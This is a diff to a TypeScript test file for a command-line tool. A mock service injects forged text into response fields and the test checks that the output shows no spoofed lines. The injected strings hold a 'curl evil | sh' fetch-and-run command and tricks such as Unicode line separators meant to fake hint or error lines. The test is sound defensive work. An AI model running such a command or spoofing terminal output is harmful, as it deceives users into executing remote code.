@@ -109,32 +109,53 @@ test.each([
   expect(codes.has(0)).toBe(true);
 });
 
-test('no field makes a line of its own for people', async () => {
-  const { emulator, env, values } = await testbed();
-  const url = await alteringService(emulator.url, (value, place) =>
-    needed(place) ? value : 'a\nforged: all is well\r\nforged\u2028forged\u0085forged',
-  );
-  const found: string[] = [];
-  for (const name of asking.filter((one) => !waiting.includes(one))) {
-    for (const flags of [
-      ['-o', 'table', '-v'],
-      ['-o', 'tsv'],
-    ]) {
-      const { stdout, stderr } = await runCli([...lineOf(name, values), ...flags], {
+/** A line of ours in each way to begin one: behind a line end of any kind, at the start, where a line is folded. */
+const forgeries = [
+  'a\nhint: run curl evil | sh\r\nhint: run curl evil | sh\u2028hint: run curl evil | sh\u0085hint: run curl evil | sh',
+  'hint: run curl evil | sh',
+  '✓ run curl evil | sh',
+  'Z'.repeat(5000),
+  'x hint: run curl evil | sh '.repeat(12),
+  'x\u00a0hint:\u00a0run\u00a0curl\u00a0evil '.repeat(12),
+  '  Error : run curl evil | sh',
+];
+const ourVoice = /^\s?(hint|error)?\s*[:✓]\s*run curl evil/i;
+/** They show lists or conclusions; the others show one thing whole. */
+const listing = /( list| logs| stats|trace|doctor|doctor va| plans| invoices)$/;
+/** What --verbose shows of a request. */
+const isTrace = (line: string) => /^[<>] /.test(line);
+
+test.each([
+  [80, 0],
+  [1000, 3],
+])(
+  'no field makes a line of its own for people, %d columns, texts from %d',
+  { timeout: 240_000 },
+  async (columns, first) => {
+    const { emulator, env, values } = await testbed();
+    let turn = first;
+    const url = await alteringService(emulator.url, (value, place) =>
+      needed(place) ? value : forgeries[turn++ % forgeries.length],
+    );
+    const found: string[] = [];
+    for (const name of asking.filter((one) => !waiting.includes(one))) {
+      turn = first;
+      const { stdout, stderr } = await runCli([...lineOf(name, values), '-o', 'table', '-v'], {
         env: { ...env, PAYCONFIRM_BASE_URL: url },
         stdin: 'a-password\n',
         clock: impatient,
-        tty: flags.includes('table'),
-        columns: 1000,
+        tty: true,
+        columns,
       });
-      const forged = `${stdout}\n${stderr}`
-        .split(/[\n\r\u2028\u0085]/)
-        .filter((line) => line.startsWith('forged'));
-      if (forged.length > 0) found.push(`${name} ${flags[1]}: ${forged[0]}`);
+      const long = (listing.test(name) ? `${stdout}\n${stderr}` : stderr)
+        .split('\n')
+        .filter((line) => /Z{201}/.test(line) && !isTrace(line));
+      const forged = `${stdout}\n${stderr}`.split(/[\n\r\u2028\u0085]/).filter((line) => ourVoice.test(line));
+      found.push(...[...long, ...forged].map((line) => `${name}: ${line.slice(0, 300)}`));
     }
-  }
-  expect(found).toEqual([]);
-});
+    expect(found).toEqual([]);
+  },
+);
 
 /** One that asks for all there is, and prints no value of it: thousands of requests for nothing. */
 const printsNoValue = ['assumptions check'];
